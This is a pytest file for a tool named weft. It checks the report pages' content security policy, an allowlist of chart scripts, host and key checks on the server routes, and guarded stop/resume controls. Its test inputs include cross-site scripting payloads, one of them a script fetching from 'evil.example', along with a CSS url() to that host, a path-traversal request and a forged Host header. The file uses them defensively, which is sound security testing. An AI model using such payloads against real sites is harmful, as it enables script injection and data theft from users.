"""Reports under a policy that lets only weft's own scripts run, and routes that answer only those who may ask."""

import json
import re
from pathlib import Path

import pytest

from watching import line, make_run, watching, write_lock
from weft.charts import Curve, chart, is_chart_script
from weft.page import bars, page, tiles
from weft.serve.run_routes import run_routes
from weft.serve.security import Security
from weft.train.report import write_run_report
from weft.watch.control import is_weft, last_words
from weft.watch.finding import folder_id
from weft.watch.reports import safe_report

KEY = "a-key-of-the-tests-1234567890"
EVIL = "<script>fetch('https://evil.example')</script>"


def script_of(svg: str) -> str:
    return re.search(r"<script>(.*)</script>", svg, re.DOTALL)[1]


@pytest.mark.parametrize("name", ["loss", 'a"b', "</script><script>alert(1)", "ID DATA AXIS", "\u2028", "名"])
def test_the_script_of_a_chart_is_known_and_no_other(name: str):
    script = script_of(chart([Curve(name, "red", [(0, 1), (1, 2.5)]), Curve("b", "blue", [(0, 1)])], "step"))
    assert is_chart_script(script)
    for changed in (
        script + "alert(1)",
        "alert(1);" + script,
        script.replace("toFixed(3)", "toFixed(3)+fetch('/')"),
        re.sub(r'getElementById\("', 'getElementById(alert(1)||"', script),
        script.replace("lines=[", "lines=alert(1)||["),
        "",
        "{" * 10**5,
    ):
        assert not is_chart_script(changed)


def test_style_attributes_become_rules_and_blocks_are_allowed_by_hash():
    parts = [
        tiles({"loss": "2.0"}),
        bars([("x", 1, 2, "note")]),
        chart([Curve("a", "var(--a)", [(0, 1), (1, 2)])], "step"),
    ]
    found = safe_report(page("name", parts))
    text = found.content.decode()
    assert ' style="' not in text
    assert re.search(r'<i data-style="\d+"><b data-style="\d+">', text)
    assert re.search(r'\[data-style="\d+"\]\{width:100\.00%\}', text)
    assert "unsafe" not in found.policy
    assert found.policy.startswith("default-src 'none'")
    assert found.policy.endswith("sandbox allow-scripts")
    assert found.policy.count("'sha256-") == 3  # two style sheets and a script


@pytest.mark.parametrize(
    "hostile",
    [
        EVIL,
        "<SCRIPT>alert(1)</SCRIPT>",
        '<script src="https://evil.example/x.js"></script>',
        "<script>\0alert(1)</script>",
        "<script>alert(1)\r\n</script>",
        '<img src=x onerror="alert(1)">',
    ],
)
def test_scripts_of_others_get_no_hash(hostile: str):
    found = safe_report(page("x", [hostile]))
    assert "script-src" not in found.policy


def test_styles_of_others_load_nothing():
    found = safe_report(b'<head></head><p style="background:u r l(https://evil.example)">x<p style="width:9%}*{x:y">')
    assert "evil" not in found.content.decode().partition("<style>")[2]
    assert "data-style" not in found.content.decode()


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    runs = tmp_path / "runs"
    made = make_run(runs / "gpt", "".join(line(step, 9 / step, sample=EVIL) for step in range(1, 30)))
    write_run_report(made)
    make_run(runs / "bare")
    return runs


def test_every_route_needs_host_and_key_and_reports_a_ticket(folder: Path, tmp_path: Path):
    (tmp_path / "keys").write_text(KEY)
    security, good = Security.of("127.0.0.1", tmp_path / "keys"), {"authorization": f"Bearer {KEY}"}
    with watching(folder, security=security) as watched:
        id = folder_id("gpt")
        for entry in run_routes():
            path = entry.path.format(id=id, ticket=f"{id}-{'0' * 64}")
            ask = watched.client.request
            options = (
                {"content": b"{}", "headers": {"content-type": "application/json"}} if entry.method == "POST" else {}
            )
            headers = options.pop("headers", {})
            wrong = ask(
                entry.method, watched.address + path, headers={**headers, **good, "host": "evil.example"}, **options
            )
            assert wrong.status_code == 403
            without = ask(entry.method, watched.address + path, headers=headers, **options)
            assert without.status_code == (404 if "{ticket}" in entry.path else 401)
        told = watched.get(f"/runs/{id}?only=facts", headers=good).json()
        shown = watched.get(told["report"])  # a frame sends no key
        assert shown.status_code == 200
        assert shown.headers["content-security-policy"].endswith("sandbox allow-scripts")
        assert watched.get(f"/runs/{id}/report", headers=good).content == shown.content
        assert watched.get(f"/runs/{id}/report.json", headers=good).json()["report"] == told["report"]
        other = told["report"].replace(id, folder_id("bare"))
        for path in (other, told["report"][:-1] + "x", "/report/", "/report/x", "/report/²-²"):
            assert watched.get(path).status_code == 404


def test_the_routes_say_what_is_wrong(folder: Path):
    with watching(folder) as watched:
        id, bare = folder_id("gpt"), folder_id("bare")
        for path, status, part in (
            ("/runs/0000000000000000", 404, "no such folder"),
            ("/runs/..%2f..%2fetc", 404, "no such"),
            (f"/runs/{id}?only=secrets", 400, "Parts: facts"),
            (f"/runs/{id}/curves?keys=%3Cscript%3E", 400, "keys are"),
            (f"/runs/{id}/curves?keys={','.join('abcdefghijklmnopqrstuvw')}", 400, "keys are"),
            (f"/runs/{id}/curves?x=time", 400, "x is one of"),
            (f"/runs/{id}/curves?points=0", 400, "points is"),
            (f"/runs/{id}/curves?width=nan", 400, "width is"),
            (f"/runs/{id}/curves?width=0.0001", 400, "buckets"),
            (f"/runs/{id}/curves?from=-1", 400, "from is"),
            ("/runs?since=x", 400, "since is"),
            (f"/runs/{bare}/report", 404, "no report here yet"),
            ("/v1/models/x", 404, "runs are watched"),
            ("/v1/completions", 404, "no such route"),
        ):
            answer = watched.get(path)
            assert answer.status_code == status, (path, answer.text)
            assert part in answer.json()["error"]["message"], (path, answer.text)
        for path in ("/health", "/ready", "/metrics", "/openapi.json", "/page.json"):
            assert watched.get(path).status_code == 200
        assert watched.get("/page.json").json() | {"weft": ""} == {"weft": "", "models": [], "runs": True}
        assert EVIL in json.dumps(watched.get(f"/runs/{id}").json())  # text, which a page shows as text


def test_without_permission_nothing_is_stopped_or_resumed(folder: Path):
    with watching(folder) as watched:
        assert watched.get("/runs").json()["control"] is False
        for way in ("stop", "resume"):
            refused = watched.post(f"/runs/{folder_id('gpt')}/{way}", {})
            assert refused.status_code == 403
            assert "--allow-control" in refused.json()["error"]["message"]
            # A form of another site is no JSON; a browser would have to ask first.
            form = watched.client.post(f"{watched.address}/runs/{folder_id('gpt')}/{way}", content=b"a=b")
            assert form.status_code == 415


def test_only_weft_commands_of_this_machine_are_stopped(folder: Path):
    with watching(folder, allow_control=True) as watched:
        gpt = folder / "gpt"
        stop = f"/runs/{folder_id('gpt')}/stop"
        assert watched.post(stop, {}).json()["error"]["message"] == "This run is not running."
        write_lock(gpt)  # this process is no weft command
        refused = watched.post(stop, {})
        assert refused.status_code == 409
        assert "is not a weft command" in refused.json()["error"]["message"]
        write_lock(gpt, host="another-machine")
        assert "another-machine" in watched.post(stop, {}).json()["error"]["message"]
        assert "running already" in watched.post(f"/runs/{folder_id('gpt')}/resume", {}).json()["error"]["message"]


def test_command_lines_of_weft_are_known():
    for words in ("weft pretrain r.yml", "/x/bin/python /x/bin/weft finetune r.yml", "python -m weft run r.yml -o x"):
        assert is_weft(words.split())
    for words in (
        "python -m weft",
        "python -m weft serve x",
        "weft page runs",
        "python train.py pretrain",
        "",
        "bash weft",
    ):
        assert not is_weft(words.split())


def test_the_last_words_of_a_command_are_its_error(tmp_path: Path):
    log = tmp_path / "resume.log"
    log.write_text("weft: an older error.\n" + "x" * 30_000 + "\nPlan: …\nweft: book.txt does not exist.\n")
    assert last_words(log, 10_000) == "book.txt does not exist."
    log.write_text("weft: an older error.\n")
    assert last_words(log, log.stat().st_size) is None
    assert last_words(tmp_path / "nowhere", 0) is None
